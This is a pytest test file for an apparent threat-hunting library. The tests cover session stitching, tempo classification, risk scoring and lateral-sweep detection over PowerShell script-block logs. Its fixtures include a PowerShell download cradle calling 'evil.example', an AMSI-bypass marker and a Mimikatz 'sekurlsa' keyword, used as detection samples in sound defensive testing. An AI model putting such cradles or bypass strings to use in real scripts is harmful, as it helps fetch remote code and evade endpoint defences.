import random

import pytest
from pyspark.sql import functions as F

from huskwatch.catalog.rules import Rule
from huskwatch.operators.sessions import lateral_sweeps, score, score_breakdown, stitch, summarise
from huskwatch.plans.hunt import Hunt


def count(make_blocks, items, **kw):
    return stitch(make_blocks(*items), **kw).select("session_id").distinct().count()


@pytest.mark.parametrize("items,want", [
    ([{"sec": 0}, {"sec": 10}, {"sec": 20}], 1), ([{"sec": 0}, {"sec": 200}], 2), ([{"sec": 0}, {"sec": 120}], 1), ([{"sec": 0}, {"sec": 121}], 2),
    ([{"sec": 0}, {"sec": 0, "host": "h2"}], 2), ([{"sec": 0}, {"sec": 0, "pid": 9}], 2)])
def test_gap_rule(make_blocks, items, want):
    assert count(make_blocks, items) == want


@pytest.mark.parametrize("bucket", [7, 60, 3600, 10**7])
def test_any_bucket_width_gives_the_same_sessions(make_blocks, bucket):
    rnd = random.Random(3)
    items = [{"sec": rnd.random() * 4000, "host": rnd.choice("ab"), "pid": rnd.randint(1, 2)} for _ in range(300)]
    items += [{"sec": 500, "host": "a", "pid": 1}] * 3
    rows = stitch(make_blocks(*items), gap_seconds=30, bucket_seconds=bucket).collect()
    groups = {}
    for r in rows:
        groups.setdefault((r.host_id, r.process_id), []).append(r)
    for g in groups.values():
        g.sort(key=lambda r: (r.ts, r.block_id))
        start = prev = None
        for r in g:
            gap = None if prev is None else (r.ts - prev).total_seconds()
            if gap is None or gap > 30:
                start, gap = r.ts, None
            assert r.session_start == start
            assert (r.gap_seconds is None) == (gap is None) and (gap is None or abs(gap - r.gap_seconds) < 1e-6)
            prev = r.ts


def test_rows_without_time_form_one_session(spark, make_blocks):
    rows = make_blocks({"sec": 0}, {"sec": 1}, {"sec": 2}).withColumn("ts", F.when(F.col("block_id") == "b0000", F.col("ts")))
    got = stitch(rows).groupBy("session_id").count().collect()
    assert {r.session_id: r["count"] for r in got} == {"h1_1_unknown": 2, "h1_1_20240601T120000": 1}


def tempo(make_blocks, secs):
    rows = make_blocks(*[{"sec": s} for s in secs]).select("*", F.lit(0).alias("severity"), F.array().cast("array<string>").alias("techniques"), F.lit(False).alias("changed"))
    return summarise(stitch(rows, 10000)).first().tempo


@pytest.mark.parametrize("secs,want", [
    ([0], "single_block"), ([i * 0.05 for i in range(6)], "automated_stager"), ([0, 8, 35, 120, 185, 340], "interactive_operator"), ([0, 1], "mixed"),
    ([0, 0.1], "automated_stager"), ([0, 0, 0], "automated_stager")])
def test_tempo(make_blocks, secs, want):
    assert tempo(make_blocks, secs) == want


def test_session_score(spark):
    rows = spark.createDataFrame(
        [("s", "h", 1, i, sev, ["AMSI_BYPASS_REFLECT", "DOWNLOAD_CRADLE_WC"] if i == 0 else [], False, float(i) if i else None)
         for i, sev in enumerate([20, 10, 10, 10, 0])],
        "session_id string, host_id string, process_id int, t int, severity int, techniques array<string>, changed boolean, gap_seconds double"
    ).withColumn("ts", F.timestamp_seconds("t")).withColumn("session_start", F.lit("1970-01-01").cast("timestamp"))
    s = score(summarise(rows)).first()
    want = 0.4 * 20 + 0.6 * (0.7 * 40 + 0.3 * 12.5) + 15
    assert abs(s.weighted_score - want) < 1e-9 and s.top3_sum == 40 and s.alert_tier == "P3_WARNING" and s.block_count == 5
    b = score_breakdown(score(summarise(rows))).first()
    assert (b.max_block_score, b.base, b.chains, b.chain_total) == (20, 8.0, ["AMSI bypass + download cradle"], 15)


def test_chain_end_to_end(make_blocks):
    hunt = Hunt(make_blocks(("amsiInitFailed", 0), ("(New-Object Net.WebClient).DownloadString('http://evil.example')", 5)))
    s = hunt.sessions.first()
    assert s.weighted_score == 100.0 and s.alert_tier == "P1_INCIDENT" and {"AMSI_BYPASS_REFLECT", "DOWNLOAD_CRADLE_WC"} <= set(s.technique_set)


def test_written_features_give_the_same_sessions(make_blocks, tmp_path):
    items = [("amsiInitFailed http://a/b", 0), ("sekurlsa 10.0.0.1", 4), ("nothing", 900)]
    lazy, kept = Hunt(make_blocks(*items)), Hunt(make_blocks(*items), work_folder=str(tmp_path))
    cols = ["session_id", "weighted_score", "technique_set", "tempo"]
    assert sorted(lazy.sessions.select(cols).collect()) == sorted(kept.sessions.select(cols).collect())


def test_sweep(spark):
    rows = spark.createDataFrame([("x", h, i) for i, h in enumerate("abcab")] + [("y", "a", 1), ("y", "b", 2)], "content_hash string, host_id string, t int").withColumn(
        "ts", F.timestamp_seconds("t"))
    got = lateral_sweeps(rows).collect()
    assert [(r.content_hash, r.hosts) for r in got] == [("x", 3)]


def test_sweeps_slide_over_borders(spark):
    """Equal to brute force, with sweeps across any border, spans that end as others begin, and hot contents."""
    rng = random.Random(7)
    rows = [("edge", h, 595 + 5 * i) for i, h in enumerate("abc")] + [("touch", "a", 0), ("touch", "b", 600), ("touch", "c", 600), ("apart", "a", 0), ("apart", "b", 601), ("apart", "c", 602)]
    rows += [(f"r{rng.randrange(4)}", f"h{rng.randrange(5)}", rng.randrange(6000)) for _ in range(120)] + [("hot", f"h{i % 2}", i * 7 % 90_000) for i in range(2000)] + [("hot", "h9", 7_000), (None, "a", 1)]
    want = {}
    for c in {r[0] for r in rows}:
        own = [r for r in rows if r[0] == c]
        for _, _, t in own:
            hosts = len({h for _, h, s in own if t - 600 <= s <= t})
            if hosts >= 3:
                want[c] = (min(t, want.get(c, (t, 0))[0]), max(hosts, want.get(c, (t, 0))[1]))
    frame = spark.createDataFrame(rows, "content_hash string, host_id string, t int").withColumn("ts", F.timestamp_seconds("t")).unionByName(
        spark.createDataFrame([("null", "a", None)] * 3, "content_hash string, host_id string, t int").withColumn("ts", F.timestamp_seconds("t")))
    got = {r.content_hash: (r.s, r.hosts) for r in lateral_sweeps(frame).withColumn("s", F.unix_seconds("first_seen")).collect()}
    assert got == want and "edge" in got and "touch" in got and "apart" not in got and "hot" in got


def test_custom_rules_flow(make_blocks):
    hunt = Hunt(make_blocks(("one", 0), ("two", 1)), rules=[Rule("r", "R", "T1", 50, ("one|two",))])
    assert hunt.sessions.first().technique_set == ["R"]
